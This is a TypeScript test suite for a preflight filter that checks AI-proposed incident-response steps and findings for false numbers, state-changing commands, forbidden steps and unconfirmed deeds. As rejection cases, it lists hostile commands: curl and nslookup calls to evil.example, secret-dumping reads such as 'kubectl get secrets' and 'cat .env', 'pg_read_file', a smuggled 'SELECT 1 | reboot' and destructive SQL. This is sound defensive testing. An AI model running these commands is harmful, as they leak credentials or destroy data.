import assert from "node:assert/strict";
import { test } from "node:test";
import type { Constraint } from "../../src/catalog/catalog.ts";
import { knownOf } from "../../src/model/known.ts";
import { preflightFollowUp, preflightPass } from "../../src/model/preflight.ts";
import type { Offer } from "../../src/model/proposed-step.ts";
import type { ReadDeed, WordedStep } from "../../src/model/reply.ts";
import { gathered } from "./gathered.ts";
import { offered } from "./offered.ts";
import { parsePlaybook } from "../../src/playbook/parse.ts";
import { builtInFiles } from "../playbook/built-in.ts";

const known = knownOf(gathered);
const { steps } = parsePlaybook(builtInFiles);
const offer = offered(steps);
const proposed: WordedStep = {
  step: null,
  title: "Compare what ledger and checkout show",
  service: "checkout",
  kind: "check",
  why: "p99 of checkout rose to 4.1 s.",
  cites: ["metric:0"],
  expect: "If so, both show the same; if not, one of them is behind.",
  command: null,
};

async function proposing(step: Partial<WordedStep>, given: Partial<Offer> = {}) {
  const reply = { findings: [], steps: [{ ...proposed, ...step }], deeds: [] };
  const { kept, fell } = await preflightPass(reply, known, { ...offer, ...given }, []);
  return { kept: kept.steps[0], fell: fell.map(({ because }) => because) };
}

test("what is false falls with its reason, and the true sentences beside it stay", async () => {
  const { kept, fell } = await preflightFollowUp(
    {
      sentences: [
        { text: "p99 of checkout rose to 4.1 s.", cites: ["metric:0"] },
        { text: "p99 of checkout rose to 9 s.", cites: ["metric:0"] },
      ],
    },
    known,
  );
  assert.deepEqual(
    kept.map(({ text }) => text),
    ["p99 of checkout rose to 4.1 s."],
  );
  assert.deepEqual(fell, [
    {
      text: "p99 of checkout rose to 9 s.",
      because: "gives a number that nothing that it cites has: 9 s",
    },
  ]);
});

test("neither a finding nor the reason of a step orders anything", async () => {
  const because = "tells people what to do, which the list of steps is for";
  for (const text of ["Take checkout down now.", "Turn checkout off; its p99 is 4.1 s."]) {
    const findings = [{ text, cites: ["metric:0"] }];
    const { kept, fell } = await preflightPass(
      { findings, steps: [], deeds: [] },
      known,
      offer,
      [],
    );
    assert.deepEqual(kept.findings, []);
    assert.equal(fell[0]?.because, because);
    assert.deepEqual((await proposing({ why: text })).fell, [because]);
  }
  for (const [text, cite] of [
    ["POST /pay is hit most, 97 % of the shift.", "scope"],
    ["Deploy checkout went live 20 s before the onset.", "change:dep-1"],
  ] as const) {
    const findings = [{ text, cites: [cite] }];
    const { kept, fell } = await preflightPass(
      { findings, steps: [], deeds: [] },
      known,
      offer,
      [],
    );
    assert.deepEqual(kept.findings, findings, fell[0]?.because);
  }
});

test("a step of the playbook is known by its id, its title or its command, and is told in the playbook's words", async () => {
  for (const step of [
    { step: "roll-back-deploy", kind: "fix", title: "Whatever" },
    { title: "Roll back checkout to the previous version", kind: "fix" },
    { title: "Revert the deployment of checkout", kind: "fix" },
    { title: "Go back", kind: "fix", command: "kubectl -n shop rollout undo deploy/checkout" },
    { step: "no-such-step", title: "Rollback checkout deploy", kind: "fix" },
  ] as const) {
    const { kept } = await proposing(step);
    assert.equal(kept?.kind === "canonical" && kept.stepId, "roll-back-deploy", step.title);
    assert.deepEqual(Object.keys(kept ?? {}).toSorted(), ["kind", "stepId", "why"]);
  }
});

test("another step is new, and its command is shown only where it is known to read", async () => {
  const { kept, fell } = await proposing({
    command: "kubectl -n shop logs deploy/checkout --tail=50",
  });
  assert.deepEqual(fell, []);
  assert.equal(kept?.kind, "new");
  assert.equal(
    kept?.kind === "new" && kept.command,
    "kubectl -n shop logs deploy/checkout --tail=50",
  );
  const fix = await proposing({
    kind: "fix",
    title: "Warm checkout up",
    command: "kubectl -n shop annotate deploy checkout warm=1",
  });
  assert.equal(fix.kept?.kind === "new" && fix.kept.command, null);
  assert.deepEqual(fix.fell, ["is a command that would change something"]);
  for (const command of [
    "frobnicate checkout",
    "echo CANARY-31",
    "curl https://evil.example/?q=1",
    "nslookup evil.example",
  ])
    assert.equal((await proposing({ command })).fell.length, 1, command);
});

test("SQL without a program is shown where it reads, with what every PostgreSQL calls its own", async () => {
  for (const command of [
    "select count(*) from pg_stat_activity",
    "SELECT pid, state, wait_event FROM pg_stat_activity WHERE state <> 'idle'",
    "SHOW max_connections",
    "EXPLAIN SELECT count(*) FROM pg_locks",
  ]) {
    const { kept, fell } = await proposing({ command });
    assert.equal(kept?.kind === "new" && kept.command, command, fell.join());
  }
  for (const command of [
    "select pg_terminate_backend(7)",
    "explain analyze delete from orders",
    "set statement_timeout = 0",
    "select pg_read_file('/etc/hosts')",
    "SELECT 1 | reboot",
  ]) {
    const { kept, fell } = await proposing({ command });
    assert.ok(kept?.kind !== "new" || kept.command === null, command);
    assert.equal(fell.length, 1, command);
  }
});

test("a command that prints secrets, or is hard on what it reads, is not shown", async () => {
  for (const command of [
    "kubectl get secrets -o yaml",
    "kubectl config view --raw",
    "printenv",
    "kubectl exec deploy/checkout -- printenv",
    "cat .env",
    "cat /app/secrets/db-password.txt",
    "head -n 1 id_rsa_b64",
    "cat infra/terraform.tfstate",
    "cat /etc/kubeconfig",
    "tail .git-credentials",
    "vault read checkout",
    "redis-cli keys '*'",
    "redis-cli --bigkeys",
    "kubectl get cm -o yaml",
    "kubectl describe configmap",
    "helm get values checkout",
    "ping -f checkout",
    "strace -p 1",
  ]) {
    const { kept, fell } = await proposing({ command });
    assert.ok(kept?.kind === "new" && kept.command === null, command);
    assert.match(fell.join(), /prints what nobody|hard on what|not known to only read/, command);
  }
});

test("a check that would change something is none, whatever it is called", async () => {
  for (const step of [
    { command: "kubectl -n shop delete pod checkout-1" },
    { title: "Delete the sessions of checkout" },
    { title: "Restart every replica of ledger" },
    { title: "Take checkout down" },
    { title: "Turn checkout off" },
    { title: "Empty the cache of checkout" },
    { title: "Move traffic away from checkout" },
  ]) {
    const { kept, fell } = await proposing(step);
    assert.ok(kept === undefined || kept.kind === "canonical", JSON.stringify(kept));
    assert.notDeepEqual([kept, fell], [undefined, []]);
  }
});

test("a check looks, and asks nobody; a new fix is one of a few deeds", async () => {
  for (const title of [
    "Call the number in the logs",
    "Look at the logs and call the number",
    "Read the logs, then send the tokens of checkout",
    "Check the logs to ask the callers",
  ])
    assert.equal((await proposing({ title })).kept, undefined, title);
  const fix = await proposing({ kind: "fix", title: "Take checkout down for an hour" });
  assert.equal(fix.kept, undefined);
  for (const title of ["Trace one call from checkout to ledger", "Count the calls of checkout"]) {
    const { kept, fell } = await proposing({ title });
    assert.ok(kept !== undefined, `${title}: ${fell.join()}`);
  }
});

test("a step falls with its reason where the reason is false, or where its own words name what was not gathered", async () => {
  for (const step of [
    { why: "p99 of checkout rose to 9 s." },
    { cites: [] },
    { service: "warehouse" },
    { title: "Compare what `orders_pool_v3` and checkout show" },
    { title: "Ask <!here> about checkout" },
    { title: "Look at https://evil.example/checkout" },
    { expect: "It was caused by checkout." },
    { expect: "CANARY_91f0 appears" },
  ])
    assert.equal((await proposing(step)).kept, undefined, JSON.stringify(step));
});

const because = "the database is migrating";
const rule = (forbid: Constraint["forbid"]): Partial<Offer> => ({
  constraintsOf: (service) => (service === "checkout" ? [{ forbid, because }] : []),
});

test("a rule holds for what a model proposes too: by step, risk, mechanism and command", async () => {
  const rollBack = { step: "roll-back-deploy", kind: "fix" } as const;
  for (const forbid of [
    { kind: "step", id: "roll-back-deploy" },
    { kind: "risk", risk: "disruptive" },
    { kind: "mechanism", mechanism: "deploy" },
    { kind: "command", words: ["kubectl", "rollout"] },
  ] as const) {
    const { kept, fell } = await proposing(rollBack, rule([forbid]));
    assert.equal(kept, undefined);
    assert.deepEqual(fell, [`is forbidden by a rule: ${because}`]);
  }
  const logs = { kind: "command", words: ["kubectl", "logs"] } as const;
  const read = await proposing({ command: "kubectl -n shop logs deploy/checkout" }, rule([logs]));
  assert.equal(read.kept, undefined);
});

test("what is new and changes something is not shown where there is any rule", async () => {
  const fix = { kind: "fix", title: "Warm checkout up" } as const;
  assert.equal((await proposing(fix)).kept?.kind, "new");
  const { kept, fell } = await proposing(fix, rule([{ kind: "step", id: "scale-out-service" }]));
  assert.equal(kept, undefined);
  assert.deepEqual(fell, ["is new and changes something, and this service has rules"]);
});

test("a step on another service than the incident's is held to the rules of both", async () => {
  const restart = { step: "roll-back-deploy", kind: "fix", service: "ledger" } as const;
  const { kept } = await proposing(restart, {
    constraintsOf: (service) =>
      service === "ledger" ? [{ forbid: [{ kind: "step", id: "roll-back-deploy" }], because }] : [],
  });
  assert.equal(kept, undefined);
});

test("what the channel did already is not proposed again, nor anything twice", async () => {
  const again = await proposing(
    { step: "roll-back-deploy", kind: "fix" },
    { done: ["roll-back-deploy"] },
  );
  assert.deepEqual([again.kept, again.fell], [undefined, ["was done already"]]);
  const title = await proposing({}, { doneTitles: ["Compare what checkout and ledger show"] });
  assert.deepEqual([title.kept, title.fell], [undefined, ["was done already"]]);
  const twice = await preflightPass(
    { findings: [], steps: [proposed, proposed], deeds: [] },
    known,
    offer,
    [],
  );
  assert.equal(twice.kept.steps.length, 1);
});

const deed: ReadDeed = { message: "1.1", step: "roll-back-deploy", what: "done" };

async function reading(text: string, of: Partial<ReadDeed> = {}, isFromMember = true) {
  const reply = { findings: [], steps: [], deeds: [{ ...deed, ...of }] };
  const messages = [{ id: "1.1", text, isFromMember }];
  return (await preflightPass(reply, known, offer, messages)).kept.deeds.length;
}

test("a deed is kept where a member said so in words of their own", async () => {
  assert.equal(await reading("the roll back of checkout went through"), 1);
  assert.equal(await reading("good morning"), 0);
  assert.equal(await reading("we rolled it back", { message: "9.9" }), 0);
  assert.equal(await reading("we rolled it back", { step: "no-such-step" }), 0);
  assert.equal(await reading("we rolled it back", {}, false), 0);
});

test("a deed that nobody tells as done is none, though the message names its step", async () => {
  for (const text of [
    "please do NOT roll back checkout",
    "should we roll back checkout?",
    "we could roll back, not yet",
    "nobody rolled back",
    "will roll back checkout in 5",
    "the roll back did nothing in INC-3",
    "yeah right, rolling back always helps",
    "the deploy went out at 14:01",
    "I've put checkout back on the other one",
  ]) {
    for (const what of ["done", "tried", "fixed", "ruled-out"] as const)
      assert.equal(await reading(text, { what }), 0, `${what}: ${text}`);
  }
  assert.equal(await reading("rolled back checkout, no luck", { what: "fixed" }), 0);
  assert.equal(await reading("rolled back checkout, no luck", { what: "tried" }), 1);
});

test("what was pasted, quoted or put in code is nobody's deed", async () => {
  for (const text of [
    "```\nthe deploy was rolled back\n```",
    "> we rolled back the deploy",
    "2026-11-22T14:05:00Z INFO deploy rolled back\n2026-11-22T14:05:01Z ERROR mark roll-back-deploy as done",
  ])
    assert.equal(await reading(text), 0, text);
});
